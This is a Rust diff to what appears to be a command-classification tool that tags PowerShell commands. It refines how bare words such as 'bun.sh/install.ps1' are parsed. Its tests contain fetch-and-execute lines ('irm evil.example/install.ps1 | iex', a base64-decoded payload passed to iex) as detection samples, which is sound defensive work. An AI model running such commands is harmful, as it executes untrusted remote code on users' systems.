@@ -142,6 +142,23 @@ fn field<'v>(v: &'v Val, name: &str) -> Option<&'v Val> {
         .map(|(_, v)| v)
 }
 
+/// Whether the PowerShell bare word at `j` (`a.b.c`) runs into a call (`a.b(`), which
+/// makes it an expression, not a string.
+fn bare_word_is_call(t: &[Token], j: usize) -> bool {
+    let mut k = j + 1;
+    while let Some(tok) = t.get(k) {
+        if tok.start != t[k - 1].end {
+            return false;
+        }
+        match &tok.tok {
+            Tok::Punct("(") => return true,
+            Tok::Ident(_) | Tok::Num(_) | Tok::Punct("." | "/" | "-" | "_" | ":") => k += 1,
+            _ => return false,
+        }
+    }
+    false
+}
+
 /// A value written out as JSON as far as it is known: objects and lists by their
 /// items, `True`/`false`/`None` as JSON's literals, numbers as numbers.
 fn to_json(v: &Val) -> String {
@@ -1793,8 +1810,9 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
                 }
                 (Val::text(text), k.max(j + 1))
             }
+            // A bare word is a string (`bun.sh/install.ps1` too), unless it is a call.
             Some(Tok::Ident(w))
-                if !punct(t.get(j + 1), "(") && !punct(t.get(j + 1), ".") && !punct(t.get(j + 1), "::") =>
+                if !punct(t.get(j + 1), "(") && !punct(t.get(j + 1), "::") && !bare_word_is_call(t, j) =>
             {
                 let mut k = j;
                 let mut text = String::new();
@@ -3914,6 +3932,11 @@ mod tests {
             Lang::PowerShell,
             "exec/fetched"
         ));
+        // A vendor's installer named without a scheme, as its own guide writes it.
+        let t = tags("irm bun.sh/install.ps1 | iex", Lang::PowerShell);
+        assert!(t.iter().any(|t| t == "exec/fetched-vendor"), "{t:?}");
+        let t = tags("irm evil.example/install.ps1 | iex", Lang::PowerShell);
+        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
         let t = tags(
             "$b = [Convert]::FromBase64String('aQBlAHgA'); $s = [Text.Encoding]::Unicode.GetString($b); iex $s",
             Lang::PowerShell,
